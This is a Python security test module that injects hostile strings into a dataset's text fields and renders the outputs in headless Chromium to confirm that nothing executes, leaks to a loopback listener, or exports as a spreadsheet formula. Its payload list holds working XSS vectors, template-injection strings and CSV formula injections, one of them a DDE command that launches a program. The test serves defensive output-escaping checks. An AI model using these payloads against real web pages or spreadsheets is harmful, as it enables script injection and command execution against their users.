"""Hostile texts in every cell of text of a world, through everything that people open, in Chromium with a listener on loopback.

A page must run none of their script, ask nobody for anything, and hold no element that a text made; a cell of a table that a
spreadsheet opens must be no formula.
"""  # fmt: skip

from __future__ import annotations

import csv
import json
import random
import shutil
import socket
import threading
from contextlib import closing
from typing import TYPE_CHECKING, Any

import scrapflow as sf
from attacks.log import Try
from attacks.mutated import _lines_of, _write_lines

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

FLAGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-dev-shm-usage"]  # fmt: skip
_SCRIPT = "window.PWNED=1;fetch('http://127.0.0.1:{port}/leak')"
_SHAPES = (
    "</script><script>{js}</script>", '<img src=x onerror="{js}">', '<svg onload="{js}">', '"><script>{js}</script>', "'-({js})-'", "`${{{js}}}`", "javascript:{js}",
    "<!--<script>{js}</script>", "]]><script>{js}</script>", "</style><script>{js}</script>", "</title><script>{js}</script>", "</textarea><img src=x onerror={js}>",
    '<iframe srcdoc="<script>{js}</script>">', '<a href="javascript:{js}">x</a>', '<math><mi xlink:href="data:x,<script>{js}</script>">', "&lt;script&gt;{js}&lt;/script&gt;",
    "\\u003cscript\\u003e{js}", "\\x3cscript\\x3e{js}", "<style>@import 'http://127.0.0.1:{port}/leak';</style>", "<link rel=stylesheet href=http://127.0.0.1:{port}/leak>",
    '<meta http-equiv=refresh content="0;url=http://127.0.0.1:{port}/leak">', "<base href=http://127.0.0.1:{port}/>", "<object data=http://127.0.0.1:{port}/leak>", "{{{{constructor.constructor('{js}')()}}}}",
    "{{% raw %}}<script>{js}</script>", "${{{js}}}", '=HYPERLINK("http://127.0.0.1:{port}/leak","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", '<details open ontoggle="{js}">',
    '<form action=http://127.0.0.1:{port}/leak><input autofocus onfocus="{js}">', "<video src=http://127.0.0.1:{port}/leak>", "url(http://127.0.0.1:{port}/leak)", '<image href="http://127.0.0.1:{port}/leak"/>', "\u2028{js}//", "*/{js}/*", '\\"-{js}//', "\u202e<script>{js}</script>",
)  # fmt: skip
_TEXTS = {"name", "name_local", "aliases", "title", "publisher", "note", "text", "subregion"}
_ELEMENTS = "iframe, object, embed, base, form[action], video, math, img[src=x], svg[onload], meta[http-equiv=refresh], details[ontoggle], link[href^=http], [onerror], [onfocus]"


def tries(count: int, seed: int, home: Path, *, only: str = "") -> Iterator[Try]:
    """Return one try a text; those of one world are opened together."""
    done = 0
    number = 0
    while done < count:
        cache: list[str] = []
        place = home / f"world-{number}"
        rng = random.Random(seed * 7919 + number)
        world_texts = _spoil(place, rng, 0)
        for i in range(len(world_texts)):

            def deed(place: Path = place, cache: list[str] = cache, rng_seed: int = seed * 7919 + number) -> str:
                if not cache:
                    cache.append(_open_all(place, rng_seed))
                    shutil.rmtree(place, ignore_errors=True)
                return cache[0]

            yield Try(f"seed {seed} world {number} text {i}", "texts", deed)
        done += len(world_texts)
        number += 1


def _spoil(place: Path, rng: random.Random, port: int) -> list[str]:
    """Write the toy with a hostile text in every cell of text; return the texts."""
    shutil.rmtree(place, ignore_errors=True)
    sf.read_world("toy").write(place)
    texts = []

    def hostile() -> str:
        text = rng.choice(_SHAPES).format(js=_SCRIPT.format(port=port), port=port)
        text = text if rng.random() < 0.7 else "".join(c.upper() if rng.random() < 0.2 else c for c in text)
        texts.append(f"{text} {len(texts)}")
        return texts[-1]

    for file in sorted(place.glob("*.csv")):
        rows = _lines_of(file)
        for j, column in enumerate(rows[0]):
            if column in _TEXTS:
                for row in rows[1:]:
                    row[j] = hostile()
        _write_lines(file, rows)
    toml = (place / "world.toml").read_text(encoding="utf-8").splitlines()
    toml = [
        f"title = {json.dumps(hostile())}"
        if line.startswith("title")
        else f"name = {json.dumps(hostile())}"
        if line.startswith("name ")
        else line
        for line in toml
    ]
    (place / "world.toml").write_text("\n".join(toml) + "\n", encoding="utf-8")
    for file in sorted(place.glob("campaigns/*.toml")):
        lines = file.read_text(encoding="utf-8").splitlines()
        lines = [
            f"{line.split('=')[0]}= {json.dumps(hostile())}" if line.startswith(("title", "note")) else line
            for line in lines
        ]
        file.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return texts


def outputs(world: sf.World, run: sf.Run, place: Path) -> list[Path]:
    """Write everything that people open."""
    from scrapflow.views import charts
    from scrapflow.world.write import write_world

    place.mkdir(parents=True, exist_ok=True)
    sf.save_map(sf.map_flows(run), place / "map.html")
    other = sf.run(world, "2012")
    sf.save_map(sf.compare_map(sf.compare(run, other)), place / "compare.html")
    for name, draw in (
        ("monthly", charts.monthly),
        ("burden", charts.burden),
        ("sankey", charts.sankey),
        ("composition", charts.yard_composition),
    ):
        for form in ("html", "svg"):
            draw(run).save(place / f"{name}.{form}")
    sf.save_picture(run, place / "picture.svg", width_in=4.0)
    shown = (
        world,
        run,
        run.flows,
        run.flows.kind("carted"),
        sf.compare(run, other),
        world.check(),
        run.claims(),
        run.assumptions(),
    )
    for i, thing in enumerate(shown):
        (place / f"notebook-{i}.html").write_text(
            f"<!doctype html><meta charset=utf-8>{thing._repr_html_()}", encoding="utf-8"
        )
    for form, name in (("flowmap", "sheets"), ("gmns", "net"), ("kepler", "k.csv"), ("geojson", "g.json")):
        sf.export(run, form, place / name)
    write_world(world, place / "written")
    return sorted(p for p in place.iterdir() if p.suffix in (".html", ".svg"))


def _formulas(place: Path) -> list[str]:
    """Return cells of exported tables that a spreadsheet would work out."""
    found = []
    for file in [*place.glob("sheets/*.csv"), *place.glob("net/*.csv"), place / "k.csv"]:
        with file.open(encoding="utf-8", newline="") as text:
            for row in csv.reader(line for line in text if not line.startswith("#")):
                found += [
                    f"{file.name}: {cell[:60]}"
                    for cell in row
                    if cell[:1] in "=+-@\t\r" and cell and not _is_number(cell)
                ]
    return found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


class Listener:
    """A server on loopback that notes who asks."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.asked = 0
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.asked += 1
            connection.close()

    def close(self) -> None:
        """Stop."""
        self.socket.close()


def opened(browser: Any, files: list[Path], listener: Listener) -> list[str]:
    """Open files and return what is wrong with them: scripts that ran, requests, elements that a text made."""
    wrong = []
    for file in files:
        with closing(browser.new_context()) as context:
            page = context.new_page()
            asked: list[str] = []
            page.on(
                "request",
                lambda r, asked=asked: (
                    asked.append(r.url) if not r.url.startswith(("file:", "data:", "blob:", "about:")) else None
                ),
            )
            page.on("dialog", lambda d, asked=asked: (asked.append(f"dialog {d.message}"), d.dismiss()))
            page.goto(file.resolve().as_uri(), wait_until="load")
            page.wait_for_timeout(300)
            links = page.query_selector_all("a[href^='javascript:' i]")
            asked += [f"a link that is a script: {link.get_attribute('href')}" for link in links]
            if page.evaluate("() => window.PWNED !== undefined"):
                wrong.append(f"{file.name}: a script ran")
            made = page.evaluate(
                f"() => [...document.querySelectorAll({json.dumps(_ELEMENTS)})].map(e => e.outerHTML.slice(0, 200))"
            )
            wrong += [f"{file.name}: {text}" for text in [*asked, *made]]
    if listener.asked:
        wrong.append(f"{listener.asked} requests reached the listener")
    return wrong


def _open_all(place: Path, seed: int) -> str:
    from playwright.sync_api import sync_playwright

    listener = Listener()
    try:
        _spoil(place, random.Random(seed), listener.port)
        world = sf.read_world(place)
        run = sf.run(world, "2015")
        files = outputs(world, run, place.with_name(place.name + "-out"))
        wrong = _formulas(place.with_name(place.name + "-out"))
        chrome = next(p for p in map(shutil.which, ("chromium", "chromium-browser", "google-chrome")) if p)
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=chrome, args=FLAGS)
            wrong += opened(browser, files, listener)
            browser.close()
    finally:
        listener.close()
    return "; ".join(wrong)[:3000]
